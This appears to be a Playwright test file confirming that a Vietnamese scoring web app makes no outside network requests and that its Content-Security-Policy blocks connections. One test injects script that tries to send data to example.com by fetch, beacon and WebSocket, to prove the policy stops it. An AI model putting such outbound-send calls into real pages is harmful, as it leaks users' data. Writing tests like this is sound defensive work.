// Nothing leaves the machine: a full session (typing, the load() hook, opening a file, the
// CSV template download, the printable report, the share link) asks for nothing but the
// page's own files, over http and from file://, seen both by playwright's request events and
// by the DevTools protocol's Network domain. The Content-Security-Policy of both pages forbids
// connections (single file: connect-src 'none'; dist/web: connect-src 'self'), and a fetch
// to another site from the page is blocked by it.
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import {
  DATA_DIR, PHU_THO_TOTAL, SINGLE_FILE_URL, captureDownload, clickUi, criterion, insertInto, loadPhuTho, openTab,
  pickFile, result, sharedBrowser, state, typeCounts, WEB_FILES, waitForIdle, waitForNotice, waitForUi,
} from './support.mjs';

const shared = sharedBrowser();
const { withPage } = shared;

// Every request of every page of the context: playwright's events and, per page, the
// DevTools protocol (requests, WebSockets, CSP-blocked attempts).
async function recordNetwork(context, page) {
  const seen = { playwright: [], cdp: [], sockets: [], blocked: [] };
  context.on('request', (r) => seen.playwright.push(r.url()));
  const watch = async (p) => {
    const cdp = await context.newCDPSession(p);
    cdp.on('Network.requestWillBeSent', (e) => seen.cdp.push(e.request.url));
    cdp.on('Network.webSocketCreated', (e) => seen.sockets.push(e.url));
    cdp.on('Network.loadingFailed', (e) => { if (e.blockedReason) seen.blocked.push(e.blockedReason); });
    await cdp.send('Network.enable');
  };
  await watch(page);
  context.on('page', (p) => { watch(p).catch(() => {}); });
  return seen;
}

// `fn(page, {context, seen})` in a page at `address` recorded from before the navigation;
// returns what was seen.
async function withRecordedPage(address, fn) {
  let seen;
  await withPage((page, { context }) => fn(page, { context, seen }), {
    address,
    setup: async (ctx, p) => { seen = await recordNetwork(ctx, p); },
  });
  return seen;
}

const allowedScheme = (u) => u.startsWith('data:') || u.startsWith('blob:');

async function fullSession(address) {
  const steps = [];
  const seen = await withRecordedPage(address, async (page, { context }) => {
    // Typing.
    await typeCounts(page, 'PAY_DOSSIERS', '1437', '1541');
    await insertInto(page, 'unit', 'value', 'UBND xã Chân Mộng');
    await page.keyboard.press('Enter');
    assert.equal(criterion(await result(page), 'PAY_DOSSIERS').points, 5.59);
    steps.push('typing');
    // The load() hook.
    await loadPhuTho(page);
    steps.push('load()');
    // Opening a file through the file chooser.
    await pickFile(page, 'open-file', join(DATA_DIR, 'chan-mong-2026.json'));
    await waitForNotice(page, 'Đã mở «chan-mong-2026.json»');
    assert.equal((await result(page)).total, 7.22, 'the opened file is in the form');
    steps.push('open file');
    // The CSV template, downloaded.
    const csv = await captureDownload(page, () => clickUi(page, 'csv-template'));
    assert.equal(csv.name, 'dvcscore-mau-nhap-lieu.csv');
    assert.match(csv.text, /^\uFEFFĐơn vị/, 'the template arrived');
    steps.push('CSV template');
    // The printable report, in a new tab (or downloaded when pop-ups are blocked).
    const never = new Promise(() => {});
    const popup = context.waitForEvent('page', { timeout: 10_000 }).then((p) => ({ popup: p }), () => never);
    const saved = page.waitForEvent('download', { timeout: 10_000 }).then((d) => ({ download: d }), () => never);
    await clickUi(page, 'report');
    const opened = await Promise.race([popup, saved,
      new Promise((_, fail) => setTimeout(() => fail(new Error('the report opened neither a tab nor a download')), 12_000))]);
    if (opened.popup) {
      await opened.popup.waitForLoadState('load');
      assert.match(opened.popup.url(), /^blob:/, 'the report is a blob: page');
      assert.match(await opened.popup.content(), /Chân Mộng/, 'the report shows the unit');
      await waitForIdle(page, { quietMs: 200 });
      await opened.popup.close();
    } else {
      assert.match(opened.download.suggestedFilename(), /bao-cao\.html$/);
    }
    steps.push('report');
    // The share link: copied (as far as the browser allows) and shown.
    await page.bringToFront();
    await clickUi(page, 'copy-link');
    await waitForUi(page, 'share-close');
    await clickUi(page, 'share-close');
    steps.push('share link');
    await openTab(page, 'tab-form');
    await page.mouse.wheel(0, 600);
    await waitForIdle(page);
    assert.equal((await state(page)).storage, 'available');
  });
  assert.deepEqual(steps, ['typing', 'load()', 'open file', 'CSV template', 'report', 'share link']);
  return seen;
}

describe('no network in a full session', () => {
  test('over http: nothing beyond the page\'s own files (WEB_FILES: the page, its manifest, icons and service worker)', async () => {
    const { server } = shared;
    const askedBefore = server.paths.length;
    const seen = await fullSession(server.url);
    const own = new Set(['', ...WEB_FILES].map((f) => `${server.url}${f}`));
    for (const [source, urls] of [['playwright', seen.playwright], ['devtools', seen.cdp]]) {
      assert.deepEqual(urls.filter((u) => !own.has(u) && !allowedScheme(u)), [], `${source}: requests beyond the page's own files`);
      assert.ok(urls.includes(`${server.url}dvcscore.wasm`), `${source} saw the wasm (the recording works): ${JSON.stringify(urls)}`);
    }
    assert.deepEqual(seen.sockets, [], 'no WebSocket');
    const asked = server.paths.slice(askedBefore);
    assert.deepEqual(asked.filter((p) => !['/', ...WEB_FILES.map((f) => `/${f}`)].includes(p)), [],
      `the server was asked for more: ${JSON.stringify(asked)}`);
  });

  test('from file://: nothing beyond dist/dvcscore.html itself', async () => {
    const seen = await fullSession(SINGLE_FILE_URL);
    for (const [source, urls] of [['playwright', seen.playwright], ['devtools', seen.cdp]]) {
      assert.deepEqual(urls.filter((u) => u !== SINGLE_FILE_URL && !allowedScheme(u)), [], `${source}: requests beyond the file`);
      assert.ok(urls.includes(SINGLE_FILE_URL), `${source} saw the file (the recording works): ${JSON.stringify(urls)}`);
    }
    assert.deepEqual(seen.sockets, [], 'no WebSocket');
  });
});

// The policy in the page's meta tag, and what it does to a script that tries to send.
function checkPolicy(address, connectSource) {
  return withRecordedPage(address, async (page, { seen }) => {
    const csp = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content ?? null);
    assert.ok(csp, 'the page carries a Content-Security-Policy meta tag');
    const directives = Object.fromEntries(csp.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
    assert.deepEqual(directives['connect-src'], [connectSource], `connect-src is ${connectSource}: ${csp}`);
    assert.deepEqual(directives['default-src'], ["'none'"], `default-src 'none': ${csp}`);

    // As if typed into the console: fetch, a beacon and a WebSocket to another site.
    const outcome = await page.evaluate(async () => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
      let fetched;
      try {
        const r = await fetch('https://example.com/dvcscore-leak?x=1', { mode: 'no-cors' });
        fetched = `resolved (${r.type})`;
      } catch (e) {
        fetched = `rejected (${e.name})`;
      }
      let beacon;
      try { beacon = navigator.sendBeacon('https://example.com/beacon', 'x'); } catch (e) { beacon = `threw ${e.name}`; }
      try { new WebSocket('wss://example.com/socket'); } catch (e) { /* blocked synchronously is fine too */ }
      await new Promise((r) => setTimeout(r, 300));
      return { fetched, beacon, violations };
    });
    assert.equal(outcome.fetched, 'rejected (TypeError)', 'fetch() to another site is refused');
    const violated = (what) => outcome.violations.some((v) => v.startsWith('connect-src') && v.includes(what));
    assert.ok(violated('example.com/dvcscore-leak'), `a securitypolicyviolation for the fetch: ${JSON.stringify(outcome.violations)}`);
    assert.ok(violated('example.com/beacon') || outcome.beacon === false, `the beacon is blocked: ${JSON.stringify(outcome)}`);
    assert.ok(violated('wss://example.com'), `the WebSocket is blocked: ${JSON.stringify(outcome.violations)}`);
    assert.deepEqual(seen.sockets, [], 'no WebSocket reached the network layer');
    assert.ok(seen.blocked.every((reason) => reason === 'csp'), `what the network layer saw was blocked by CSP: ${JSON.stringify(seen.blocked)}`);
    // The page's own work is not hindered by its policy.
    await loadPhuTho(page);
    assert.equal((await result(page)).total, PHU_THO_TOTAL);
  });
}

describe('Content-Security-Policy', () => {
  test("single file: connect-src 'none', and fetch('https://example.com') from the page is blocked", () =>
    checkPolicy(SINGLE_FILE_URL, "'none'"));
  test("dist/web: connect-src 'self', and fetch('https://example.com') from the page is blocked", () =>
    checkPolicy(shared.server.url, "'self'"));
});
